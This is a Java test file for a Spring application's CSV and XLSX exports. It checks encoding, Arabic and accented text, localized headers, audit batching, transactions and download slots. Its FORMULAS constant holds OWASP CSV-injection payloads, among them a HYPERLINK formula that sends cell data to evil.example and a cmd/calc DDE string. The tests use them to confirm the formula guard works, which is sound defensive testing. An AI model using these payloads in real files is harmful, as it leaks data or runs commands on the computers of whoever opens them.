package org.socle.shared.export;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.LongStream;
import java.util.stream.Stream;

import javax.sql.DataSource;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.socle.SocleTest;
import org.socle.establishment.Category;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.MessageSource;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionSynchronization;
import org.springframework.transaction.support.TransactionSynchronizationManager;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIOException;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * What a user finds in an exported file, read back as a spreadsheet would: CSV
 * (byte-order mark, quoting, Arabic) and XLSX (typed cells, bold frozen header), the
 * formula-injection guard, headers in the user's language, and the access-log hook's
 * batches and transaction.
 */
@SocleTest
class TableExportsTests {

	static final Locale ARABIC = Locale.forLanguageTag("ar-MA");

	/** Payloads of the OWASP CSV-injection page: each must arrive as inert text. */
	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Détails\")", "+1", "-2+3",
			"@SUM(A1:A9)", "\tcmd|' /C calc'!A0", "\r=1+1");

	record Line(long id, String name, Category category, BigDecimal score, Integer capacity, LocalDate expiry,
			Instant checkedAt, Boolean expired) {

		static Line named(long id, String name) {
			return new Line(id, name, Category.ELDERLY, new BigDecimal("72.5"), 40, LocalDate.of(2024, 3, 1),
					Instant.parse("2026-11-23T13:05:00Z"), false);
		}

	}

	static final ExportColumns<Line> COLUMNS = ExportColumns.<Line>of()
		.number("export.table.id", Line::id)
		.text("establishment.column.nameFr", Line::name)
		.label("establishment.column.category", Line::category)
		.number("assessment.column.score", Line::score)
		.number("establishment.column.authorisedCapacity", Line::capacity)
		.date("establishment.column.authorisationExpiry", Line::expiry)
		.dateTime("accessLog.when", Line::checkedAt)
		.yesNo("establishment.authorisation.expired", Line::expired);

	@Autowired
	TableExports exports;

	@Autowired
	PlatformTransactionManager transactions;

	@Autowired
	MessageSource messages;

	@Autowired
	Clock clock;

	@Autowired
	DataSource dataSource;

	@Test
	void csvIsUtf8WithAByteOrderMarkSemicolonsAndRfc4180Quoting() throws IOException {
		byte[] file = export(ExportFormat.CSV, Locale.FRENCH, Line.named(1, "Dar \"Al Amal\"; annexe"),
				Line.named(2, "Ligne 1\nLigne 2"), new Line(3, "Sans valeurs", null, null, null, null, null, null));
		String text = new String(file, StandardCharsets.UTF_8);
		assertThat(text).startsWith("\uFEFFIdentifiant;Nom;Catégorie;Score;Capacité;")
			.contains(
					"\r\n1;\"Dar \"\"Al Amal\"\"; annexe\";Personnes âgées;72.5;40;2024-03-01;2026-11-23 14:05:00;Non\r\n")
			.contains("\"Ligne 1\nLigne 2\"")
			.endsWith("\r\n3;Sans valeurs;;;;;;\r\n");
		assertThat(ExportFiles.csv(file)).hasSize(4)
			.element(2)
			.isEqualTo(List.of("2", "Ligne 1\nLigne 2", "Personnes âgées", "72.5", "40", "2024-03-01",
					"2026-11-23 14:05:00", "Non"));
	}

	@ParameterizedTest
	@EnumSource(ExportFormat.class)
	void arabicAndAccentsComeBackUnchanged(ExportFormat format) throws IOException {
		String name = "دار الأمل للأطفال — Fès, Salé «Œuvre»";
		byte[] file = export(format, Locale.FRENCH, Line.named(1, name));
		assertThat(format == ExportFormat.CSV ? ExportFiles.csv(file).get(1).get(1)
				: ExportFiles.xlsx(file).get(1).get(1).asString())
			.isEqualTo(name);
	}

	@Test
	void formulasAreWrittenAsQuotedTextInCsvWhileNegativeNumbersStayNumbers() throws IOException {
		List<List<String>> rows = ExportFiles.csv(export(ExportFormat.CSV, Locale.FRENCH, formulaLines()));
		for (int i = 0; i < FORMULAS.size(); i++) {
			assertThat(rows.get(i + 1).get(1)).isEqualTo("'" + FORMULAS.get(i));
			assertThat(rows.get(i + 1).get(3)).as("a genuine negative number").isEqualTo("-2.5");
		}
		assertThat(rows.get(FORMULAS.size() + 1).get(1)).as("a dash inside a text is harmless")
			.isEqualTo("Dar-Al-Amal");
	}

	@Test
	void formulasAreWrittenAsQuotedTextInXlsxWhileNegativeNumbersStayNumbers() throws IOException {
		byte[] file = export(ExportFormat.XLSX, Locale.FRENCH, formulaLines());
		List<List<Cell>> rows = ExportFiles.xlsx(file);
		for (int i = 0; i < FORMULAS.size(); i++) {
			Cell text = rows.get(i + 1).get(1);
			assertThat(text.getType()).isEqualTo(CellType.STRING);
			assertThat(text.asString()).isEqualTo("'" + FORMULAS.get(i));
			Cell score = rows.get(i + 1).get(3);
			assertThat(score.getType()).as("a genuine negative number").isEqualTo(CellType.NUMBER);
			assertThat(score.asNumber()).isEqualByComparingTo("-2.5");
		}
		assertThat(ExportFiles.xlsxPart(file, "xl/worksheets/sheet1.xml")).doesNotContain("<f>");
	}

	private static Line[] formulaLines() {
		List<Line> lines = new ArrayList<>();
		for (String formula : FORMULAS) {
			lines.add(new Line(lines.size() + 1, formula, Category.CHILDREN, new BigDecimal("-2.5"), -3, null, null,
					null));
		}
		lines.add(Line.named(lines.size() + 1, "Dar-Al-Amal"));
		return lines.toArray(Line[]::new);
	}

	@Test
	void xlsxHasNumbersDatesAndABoldFrozenFilterableHeader() throws IOException {
		byte[] file = export(ExportFormat.XLSX, Locale.FRENCH, Line.named(7, "Dar Al Amal"));
		List<Cell> row = ExportFiles.xlsx(file).get(1);
		assertThat(row.get(0).getType()).isEqualTo(CellType.NUMBER);
		assertThat(row.get(0).asNumber()).isEqualByComparingTo("7");
		assertThat(row.get(3).asNumber()).isEqualByComparingTo("72.5");
		assertThat(row.get(5).asDate()).isEqualTo(LocalDateTime.of(2024, 3, 1, 0, 0));
		assertThat(row.get(5).getDataFormatString()).isEqualTo("yyyy-mm-dd");
		assertThat(row.get(6).asDate()).as("in Socle's time zone").isEqualTo(LocalDateTime.of(2026, 11, 23, 14, 5));
		assertThat(row.get(6).getDataFormatString()).isEqualTo("yyyy-mm-dd hh:mm:ss");
		assertThat(row.get(7).asString()).isEqualTo("Non");
		String sheet = ExportFiles.xlsxPart(file, "xl/worksheets/sheet1.xml");
		assertThat(sheet).contains("state=\"frozen\"")
			.contains("topLeftCell=\"A2\"")
			.contains("<autoFilter ref=\"A1:H");
		assertThat(sheet).as("header cells in the second style: bold on grey").contains("<c r=\"A1\" s=\"1\"");
		assertThat(ExportFiles.xlsxPart(file, "xl/styles.xml")).contains("<font><b/>")
			.contains("<xf numFmtId=\"0\" fontId=\"1\" fillId=\"2\"");
	}

	@Test
	void headersAndLabelsAreInTheUsersLanguage() throws IOException {
		assertThat(headersAndFirstRow(Locale.FRENCH)).containsExactly("Identifiant", "Nom", "Catégorie", "Score",
				"Capacité", "Fin d’autorisation", "Date et heure", "Autorisation expirée", "Personnes âgées", "Non");
		assertThat(headersAndFirstRow(Locale.ENGLISH)).containsExactly("ID", "Name", "Category", "Score", "Capacity",
				"Authorisation ends", "Date and time", "Authorisation expired", "Older people", "No");
		assertThat(headersAndFirstRow(ARABIC)).containsExactly("المعرف", "الاسم", "الفئة", "النتيجة",
				"الطاقة الاستيعابية", "انتهاء الترخيص", "التاريخ والساعة", "ترخيص منتهي الصلاحية", "الأشخاص المسنون",
				"لا");
	}

	/**
	 * The headers of both formats (checked equal), then the first row's label and yes/no.
	 */
	private List<String> headersAndFirstRow(Locale locale) throws IOException {
		List<List<String>> csv = ExportFiles.csv(export(ExportFormat.CSV, locale, Line.named(1, "x")));
		List<List<Cell>> xlsx = ExportFiles.xlsx(export(ExportFormat.XLSX, locale, Line.named(1, "x")));
		assertThat(xlsx.get(0).stream().map(Cell::asString).toList()).isEqualTo(csv.get(0));
		List<String> found = new ArrayList<>(csv.get(0));
		found.add(csv.get(1).get(2));
		found.add(csv.get(1).get(7));
		return found;
	}

	@Test
	void anArabicWorkbookReadsRightToLeftUnderAnArabicSheetName() throws IOException {
		byte[] file = export(ExportFormat.XLSX, ARABIC, Line.named(1, "دار الأمل"));
		assertThat(ExportFiles.xlsxPart(file, "xl/worksheets/sheet1.xml")).contains("rightToLeft=\"true\"");
		assertThat(ExportFiles.sheetName(file)).isEqualTo("المؤسسات");
	}

	@Test
	void theAuditSeesEveryRowInBatchesInsideAReadWriteTransaction() throws IOException {
		List<Integer> batches = new ArrayList<>();
		List<Boolean> readOnly = new ArrayList<>();
		TableExport<Line> export = lines(1_201).audited((rows) -> {
			batches.add(rows.size());
			readOnly.add(TransactionSynchronizationManager.isCurrentTransactionReadOnly());
		});
		assertThat(this.exports.write(export, ExportFormat.XLSX, Locale.FRENCH, new ByteArrayOutputStream()))
			.isEqualTo(1_201);
		assertThat(batches).containsExactly(500, 500, 201);
		assertThat(readOnly).containsOnly(false);
	}

	@Test
	void exportsWithoutAuditReadInAReadOnlyTransaction() throws IOException {
		AtomicBoolean readOnly = new AtomicBoolean();
		TableExport<Line> export = TableExport.of("establishment.list.title", COLUMNS, () -> {
			readOnly.set(TransactionSynchronizationManager.isActualTransactionActive()
					&& TransactionSynchronizationManager.isCurrentTransactionReadOnly());
			return Stream.of(Line.named(1, "x"));
		});
		this.exports.write(export, ExportFormat.CSV, Locale.FRENCH, new ByteArrayOutputStream());
		assertThat(readOnly).isTrue();
	}

	@Test
	void aBrokenDownloadStillCommitsTheAuditOfTheRowsAlreadySent() {
		AtomicInteger audited = new AtomicInteger();
		AtomicBoolean committed = new AtomicBoolean();
		TableExport<Line> export = lines(10_000).audited((rows) -> {
			audited.addAndGet(rows.size());
			TransactionSynchronizationManager.registerSynchronization(new TransactionSynchronization() {
				@Override
				public void afterCommit() {
					committed.set(true);
				}
			});
		});
		assertThatIOException()
			.isThrownBy(() -> this.exports.write(export, ExportFormat.CSV, Locale.FRENCH, new BrokenAfter(64 * 1024)));
		assertThat(audited.get()).isBetween(500, 2_000);
		assertThat(committed).isTrue();
	}

	@Test
	void rowsStreamFromPostgresqlInsideTheExportsTransaction() throws IOException {
		JdbcTemplate jdbc = new JdbcTemplate(this.dataSource);
		jdbc.setFetchSize(500);
		TableExport<Line> export = TableExport.of("establishment.list.title", COLUMNS,
				() -> jdbc.queryForStream(
						"SELECT g, 'Établissement ' || g || ' مؤسسة' FROM generate_series(1, 5000) AS g",
						(rs, i) -> Line.named(rs.getLong(1), rs.getString(2))));
		List<List<Cell>> rows = ExportFiles.xlsx(export(ExportFormat.XLSX, Locale.FRENCH, export));
		assertThat(rows).hasSize(5_001);
		assertThat(rows.get(5_000).get(1).asString()).isEqualTo("Établissement 5000 مؤسسة");
	}

	/**
	 * Spring Session saves the session, on a connection of its own, when the response
	 * commits: committed inside the export's transaction, a download would hold two
	 * connections at once, and concurrent downloads would exhaust the pool.
	 */
	@ParameterizedTest
	@EnumSource(ExportFormat.class)
	void theResponseCommitsBeforeTheExportsTransactionBegins(ExportFormat format) throws IOException {
		List<Boolean> transactionAtCommit = new ArrayList<>();
		MockHttpServletResponse response = new MockHttpServletResponse() {
			@Override
			public void setCommitted(boolean committed) {
				if (committed && !isCommitted()) {
					transactionAtCommit.add(TransactionSynchronizationManager.isActualTransactionActive());
				}
				super.setCommitted(committed);
			}
		};
		this.exports.download(lines(1_201), format, response);
		assertThat(transactionAtCommit).containsExactly(false);
		assertThat(response.getContentAsByteArray()).hasSizeGreaterThan(10_000);
	}

	@Test
	void anExportWaitsForAFreeSlotAndIsTurnedAwayBeforeAnythingIsSentWhenNoneFreesUp() throws Exception {
		TableExports oneAtATime = new TableExports(this.transactions, this.messages, this.clock,
				new ExportSlots(1, Duration.ofMillis(200)));
		CountDownLatch started = new CountDownLatch(1);
		CountDownLatch release = new CountDownLatch(1);
		TableExport<Line> slow = TableExport.of("establishment.list.title", COLUMNS, () -> {
			started.countDown();
			awaitQuietly(release);
			return Stream.of(Line.named(1, "Lent"));
		});
		ExecutorService other = Executors.newSingleThreadExecutor();
		try {
			Future<?> first = other.submit(() -> {
				oneAtATime.download(slow, ExportFormat.CSV, new MockHttpServletResponse());
				return null;
			});
			assertThat(started.await(10, TimeUnit.SECONDS)).isTrue();
			MockHttpServletResponse turnedAway = new MockHttpServletResponse();
			assertThatThrownBy(() -> oneAtATime.download(lines(3), ExportFormat.CSV, turnedAway))
				.isInstanceOf(ExportsBusyException.class);
			assertThat(turnedAway.isCommitted()).isFalse();
			assertThat(turnedAway.getContentAsByteArray()).isEmpty();
			release.countDown();
			first.get(10, TimeUnit.SECONDS);
			MockHttpServletResponse next = new MockHttpServletResponse();
			oneAtATime.download(lines(3), ExportFormat.CSV, next);
			assertThat(next.getContentAsString(StandardCharsets.UTF_8)).contains("Établissement 3");
		}
		finally {
			release.countDown();
			other.shutdownNow();
		}
	}

	private static void awaitQuietly(CountDownLatch latch) {
		try {
			latch.await(10, TimeUnit.SECONDS);
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
		}
	}

	@Test
	void formatsAreNamedByTheirExtension() {
		assertThat(ExportFormat.ofExtension("XLSX")).contains(ExportFormat.XLSX);
		assertThat(ExportFormat.ofExtension("csv")).contains(ExportFormat.CSV);
		assertThat(ExportFormat.ofExtension("pdf")).isEmpty();
	}

	private static TableExport<Line> lines(int count) {
		return TableExport.of("establishment.list.title", COLUMNS,
				() -> LongStream.rangeClosed(1, count).mapToObj((i) -> Line.named(i, "Établissement " + i)));
	}

	private byte[] export(ExportFormat format, Locale locale, Line... lines) throws IOException {
		return export(format, locale, TableExport.of("establishment.list.title", COLUMNS, () -> Stream.of(lines)));
	}

	private byte[] export(ExportFormat format, Locale locale, TableExport<Line> export) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		this.exports.write(export, format, locale, out);
		return out.toByteArray();
	}

	/** A download the browser abandons after {@code limit} bytes. */
	private static final class BrokenAfter extends OutputStream {

		private final long limit;

		private long written;

		BrokenAfter(long limit) {
			this.limit = limit;
		}

		@Override
		public void write(int b) throws IOException {
			write(new byte[] { (byte) b }, 0, 1);
		}

		@Override
		public void write(byte[] b, int off, int len) throws IOException {
			this.written += len;
			if (this.written > this.limit) {
				throw new IOException("Broken pipe");
			}
		}

	}

}
